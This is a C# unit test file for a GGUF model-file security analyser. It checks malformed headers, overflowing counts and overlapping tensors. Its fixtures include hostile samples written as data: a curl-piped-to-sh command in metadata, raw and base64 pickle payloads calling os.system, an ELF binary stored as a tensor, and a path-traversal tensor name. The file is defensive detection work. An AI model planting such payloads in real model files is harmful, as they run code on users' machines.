using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Formats;
using Assay.Formats.Gguf;
using Assay.Inspect.Analysers.Gguf;
using Assay.Tests.Unit.Formats.Gguf;

namespace Assay.Tests.Unit.Inspect.Analysers.Gguf;

public sealed class GgufAnalyserTests
{
    private static GgufBuilder Honest(bool bigEndian = false) => new GgufBuilder(bigEndian) { Data = new byte[64] }
        .Text("general.architecture", "llama").Number("general.alignment", 32).Tensor("a", 0, 0, 4, 2).Tensor("b", 0, 32, 8);

    private static Task<TestBedResult> Run(byte[] bytes, string name = "m.gguf") =>
        TestBed.For(new GgufAnalyser()).WithBytes(bytes).Named(name).RunAsync(TestContext.Current.CancellationToken);

    private static async Task IsMalformed(GgufBuilder file) => (await Run(file.ToArray())).Of("ASY-GUF-001").Severity.ShouldBe(Severity.Medium);

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task An_honest_file_of_either_byte_order_is_no_finding(bool bigEndian)
    {
        var bytes = Honest(bigEndian).ToArray();
        var result = await Run(bytes);
        result.Findings.ShouldBeEmpty();
        result.Result.BytesUnderstood.ShouldBe(bytes.Length);
    }

    [Fact]
    public async Task A_command_in_the_metadata_is_high_and_one_in_a_sentence_or_a_token_is_none()
    {
        (await Run(Honest().Text("general.description", "$(curl http://127.0.0.1:9/x | sh)").ToArray())).Of("ASY-GUF-008").Severity.ShouldBe(Severity.High);
        (await Run(Honest().Text("general.description", "Start it with: python -c 'import llama' or see the guide for how to run it").Text("tokenizer.ggml.pre", "os.system('x')")
            .ToArray())).Findings.ShouldBeEmpty();
    }

    [Fact]
    public async Task A_tensor_that_is_a_program_is_high()
    {
        byte[] data = [0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 62, 0, .. new byte[44]];
        var file = Honest();
        file.Data = data;
        (await Run(file.ToArray())).Of("ASY-GUF-009").Severity.ShouldBe(Severity.High);
    }

    [Fact]
    public Task A_count_of_pairs_larger_than_the_file_is_malformed() { var f = Honest(); f.SaidEntries = ulong.MaxValue; return IsMalformed(f); }

    [Fact]
    public Task A_count_of_tensors_larger_than_the_file_is_malformed() { var f = Honest(); f.SaidTensors = 1UL << 60; return IsMalformed(f); }

    [Fact]
    public Task An_offset_behind_the_file_is_malformed() => IsMalformed(Honest().Tensor("c", 0, 1 << 20, 8));

    [Fact]
    public Task An_offset_that_wraps_around_is_malformed() => IsMalformed(Honest().Tensor("c", 0, ulong.MaxValue - 31, 8));

    [Fact]
    public Task Dimensions_whose_product_wraps_around_are_malformed() => IsMalformed(Honest().Tensor("c", 0, 32, 1UL << 33, 1UL << 33));

    [Fact]
    public Task Tensors_that_overlap_are_malformed() => IsMalformed(Honest().Tensor("c", 0, 32, 4));

    [Fact]
    public Task A_key_that_stands_twice_is_malformed() => IsMalformed(Honest().Text("general.architecture", "other"));

    [Fact]
    public Task An_alignment_that_is_no_power_of_two_is_malformed() => IsMalformed(new GgufBuilder().Number("general.alignment", 24));

    [Fact]
    public Task A_value_type_that_does_not_exist_is_malformed() => IsMalformed(new GgufBuilder().Raw("a", 77));

    [Fact]
    public Task An_array_with_more_items_than_bytes_is_malformed() =>
        IsMalformed(new GgufBuilder().Raw("a", 9, [10, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x1f]));

    [Fact]
    public Task A_name_that_is_a_path_is_malformed() => IsMalformed(Honest().Tensor("../../etc/x", 0, 64, 1));

    [Fact]
    public async Task A_pickle_behind_the_tensors_is_high()
    {
        byte[] bytes = [.. Honest().ToArray(), .. "cos\nsystem\n(S'echo assay-canary'\ntR."u8];
        (await Run(bytes)).Of("ASY-GUF-002").Severity.ShouldBe(Severity.High);
    }

    [Fact]
    public async Task A_pickle_written_as_base64_in_the_metadata_is_high() =>
        (await Run(Honest().Text("general.note", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==").ToArray())).Of("ASY-GUF-003").Severity.ShouldBe(Severity.High);

    [Fact]
    public async Task Bytes_that_are_only_called_gguf_are_medium() =>
        (await Run([.. "NOPE"u8, .. new byte[32]])).Of("ASY-GUF-004").Severity.ShouldBe(Severity.Medium);

    [Fact]
    public async Task The_outdated_format_is_low_and_impossible_settings_medium()
    {
        byte[] head = [.. "tjgg"u8, 3, 0, 0, 0, 0, 125, 0, 0, 0, 16, 0, 0, 0, 1, 0, 0, 32, 0, 0, 0, 32, 0, 0, 0, 128, 0, 0, 0, 2, 0, 0, 0];
        (await Run(head, "m.bin")).Worst.ShouldBe(Severity.Low);
        head[11] = 0xff;
        (await Run(head, "m.bin")).Worst.ShouldBe(Severity.Medium);
    }

    [Fact]
    public void Files_that_are_cut_or_changed_anywhere_are_read_without_an_exception()
    {
        var honest = Honest().Raw("list", 9, 8, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 65).ToArray();
        for (var length = 0; length < honest.Length; length++)
            GgufReader.Read(new MemoryByteSource(honest.AsMemory(0, length)), TestContext.Current.CancellationToken).HeaderEnd.ShouldBeInRange(0, honest.Length);
        var random = new Random(20240611);
        for (var i = 0; i < 3000; i++)
        {
            var bytes = honest.ToArray();
            for (var n = random.Next(1, 6); n > 0; n--) bytes[random.Next(4, bytes.Length)] = (byte)random.Next(256);
            GgufReader.Read(new MemoryByteSource(bytes), TestContext.Current.CancellationToken).DataEnd.ShouldBeInRange(0, bytes.Length);
        }
    }
}
